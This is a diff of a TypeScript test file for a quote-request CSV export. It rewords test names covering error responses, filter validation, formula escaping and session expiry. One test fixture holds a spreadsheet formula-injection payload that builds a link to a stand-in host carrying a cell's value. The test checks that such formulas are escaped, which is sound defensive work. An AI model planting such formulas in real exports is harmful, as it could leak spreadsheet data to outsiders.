@@ -44,7 +44,7 @@ describe('an export', () => {
     expect(bytes.subarray(-2).toString()).toBe('\r\n');
   });
 
-  it('answers who may not have it, and what is not there, as JSON', async () => {
+  it('answers errors as JSON', async () => {
     const visitor = await testApp.browser().rest('GET', '/api/exports/quote-requests.csv');
     expect(visitor).toMatchObject({
       status: 401,
@@ -65,7 +65,7 @@ describe('an export', () => {
     );
   });
 
-  it('names what is wrong with a filter', async () => {
+  it('names an invalid filter', async () => {
     const wrong = await admin.rest('GET', '/api/exports/quote-requests.csv?status=lost');
     expect(wrong).toMatchObject({
       status: 400,
@@ -79,7 +79,7 @@ describe('an export', () => {
 });
 
 describe('quote requests', () => {
-  it('hold what people typed, harmless: formulas, quotes, line breaks, any script', async () => {
+  it('contain what people typed, with formulas escaped: quotes, line breaks, any script', async () => {
     const notes = '=HYPERLINK("https://x.example/?"&A1,"Free")\nsecond, line';
     await insertTestRequest(testApp.deps, {
       reference_number: 'QR-CSVTEST1',
@@ -290,7 +290,7 @@ describe('the reports', () => {
   });
 });
 
-it('an export is not given to a session that has ended, and breaks off when it ends under way', async () => {
+it('an export is refused to an ended session, and aborted if the session ends during it', async () => {
   const { browser } = await signedInAs(testApp, { role: 'admin' });
   const ended = new DomainError('UNAUTHENTICATED', serverMessages.signInFirst);
   const endsAfter = (looks: number) => {
